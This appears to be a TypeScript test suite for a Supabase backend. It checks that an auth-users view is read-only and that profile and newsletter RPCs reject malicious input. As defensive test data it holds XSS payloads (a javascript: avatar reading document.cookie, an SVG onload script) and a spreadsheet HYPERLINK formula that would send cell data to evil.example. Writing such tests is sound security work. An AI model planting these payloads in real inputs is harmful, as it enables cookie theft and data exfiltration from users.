import { randomUUID } from 'node:crypto';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import {
  createTestAccount,
  deleteAuthUser,
  insertLinkedinUser,
  type LinkedinTestUser,
} from '../helpers/db.ts';
import { DEMO_ADMIN_ID } from '../helpers/seed-ids.ts';
import { anonClient, clientAs, signUserJwt, type TestClient } from '../helpers/supabase.ts';

const apiUrl = inject('apiUrl');
const db = new pg.Client({ connectionString: inject('dbUrl') });
const anon = anonClient(apiUrl);

let adminId: string;
let memberId: string;
let admin: TestClient;
let member: TestClient;
let linkedin: LinkedinTestUser;
let linkedinClient: TestClient;

async function authUserExists(id: string): Promise<boolean> {
  const { rowCount } = await db.query('select 1 from auth.users where id = $1', [id]);
  return rowCount === 1;
}

beforeAll(async () => {
  await db.connect();
  const adminAccount = await createTestAccount(db, { admin: true, label: 'secdb' });
  const memberAccount = await createTestAccount(db, { admin: false, label: 'secdb' });
  adminId = adminAccount.id;
  memberId = memberAccount.id;
  admin = clientAs(apiUrl, adminAccount.jwt);
  member = clientAs(apiUrl, memberAccount.jwt);
  linkedin = await insertLinkedinUser(inject('dbUrl'), 'secdb');
  linkedinClient = clientAs(apiUrl, await signUserJwt(linkedin.id, linkedin.email));
});

afterAll(async () => {
  await db.query('delete from auth.users where id = any($1::uuid[])', [[adminId, memberId]]);
  await deleteAuthUser(inject('dbUrl'), linkedin.id);
  await db.end();
});

describe('team_accounts is read-only (it is a view over auth.users that bypasses RLS)', () => {
  it('a signed-in non-admin cannot insert an account into auth.users through it', async () => {
    const id = randomUUID();
    const { error } = await member
      .from('team_accounts')
      .insert({ id, created_at: new Date().toISOString() } as never);
    expect(error?.code).toBe('42501');
    expect(await authUserExists(id)).toBe(false);
  });

  it('a LinkedIn member cannot insert through it either', async () => {
    const id = randomUUID();
    const { error } = await linkedinClient.from('team_accounts').insert({ id } as never);
    expect(error?.code).toBe('42501');
    expect(await authUserExists(id)).toBe(false);
  });

  it('an admin cannot update or delete auth accounts through it', async () => {
    const updated = await admin
      .from('team_accounts')
      .update({ email_confirmed_at: null } as never)
      .eq('id', memberId)
      .select();
    expect(updated.error?.code).toBe('42501');
    const deleted = await admin.from('team_accounts').delete().eq('id', memberId);
    expect(deleted.error?.code).toBe('42501');
    const { rows } = await db.query('select email_confirmed_at from auth.users where id = $1', [memberId]);
    expect(rows).toHaveLength(1);
    expect(rows[0].email_confirmed_at).not.toBeNull();
  });

  it('admins still read it', async () => {
    const { data, error } = await admin.from('team_accounts').select('id').eq('id', DEMO_ADMIN_ID);
    expect(error).toBeNull();
    expect(data).toEqual([{ id: DEMO_ADMIN_ID }]);
  });
});

describe('track_user_login_with_profile bounds what reaches the public showcase', () => {
  const valid = () => ({
    provider_name: 'linkedin_oidc',
    linkedin_id: linkedin.sub,
    full_name: 'Pessoa Segura',
    email: linkedin.email,
    avatar_url: 'https://media.example.com.br/segura.jpg',
    profile_data: { sub: linkedin.sub },
  });

  it.each([
    ['a javascript: avatar', { avatar_url: 'javascript:alert(document.cookie)' }],
    ['a data: avatar', { avatar_url: 'data:image/svg+xml,<svg onload=alert(1)>' }],
    ['an avatar longer than 2048 characters', { avatar_url: `https://x.example.com/${'a'.repeat(2100)}` }],
    ['a name longer than 200 characters', { full_name: 'N'.repeat(201) }],
    ['a profile larger than 16 KB', { profile_data: { blob: 'x'.repeat(20_000) } }],
  ])('refuses %s and leaves the member row untouched', async (_label, patch) => {
    const { error } = await linkedinClient.rpc('track_user_login_with_profile', { ...valid(), ...patch });
    expect(error?.code).toBe('22023');
    const { rows } = await db.query('select 1 from public.members where id = $1', [linkedin.id]);
    expect(rows).toHaveLength(0);
  });

  it('still records a normal LinkedIn profile', async () => {
    const { data, error } = await linkedinClient.rpc('track_user_login_with_profile', valid());
    expect(error).toBeNull();
    expect(data).toMatchObject({
      id: linkedin.id,
      full_name: 'Pessoa Segura',
      avatar_url: 'https://media.example.com.br/segura.jpg',
    });
  });
});

describe('subscribe_newsletter input', () => {
  const emails: string[] = [];
  afterAll(async () => {
    await db.query('delete from public.newsletter_subscribers where email = any($1::text[])', [emails]);
  });

  it.each([
    ['a spreadsheet formula as source', 'ok', '=HYPERLINK("https://evil.example/?"&A1;"abrir")'],
    ['a source with spaces and markup', 'ok', '<b>home</b> page'],
    ['an address starting with a formula character', '=1+2', 'site'],
    ['an address with a control character', 'tab\u0007', 'site'],
    ['a megabyte-long address', 'a'.repeat(1_000_000), 'site'],
  ])('refuses %s', async (_label, local, source) => {
    const email = `${local}-${randomUUID().slice(0, 8)}@example.com.br`.toLowerCase();
    emails.push(email);
    const { error } = await anon.rpc('subscribe_newsletter', { _email: email, _source: source });
    expect(error?.code).toBe('22023');
    const { rows } = await db.query('select 1 from public.newsletter_subscribers where email = $1', [email]);
    expect(rows).toHaveLength(0);
  });

  it('accepts a normal address with a slug source', async () => {
    const email = `leitora.${randomUUID().slice(0, 8)}@example.com.br`;
    emails.push(email);
    const { error } = await anon.rpc('subscribe_newsletter', { _email: email, _source: 'newsletter-page' });
    expect(error).toBeNull();
    const { rows } = await db.query('select source from public.newsletter_subscribers where email = $1', [
      email,
    ]);
    expect(rows).toEqual([{ source: 'newsletter-page' }]);
  });
});
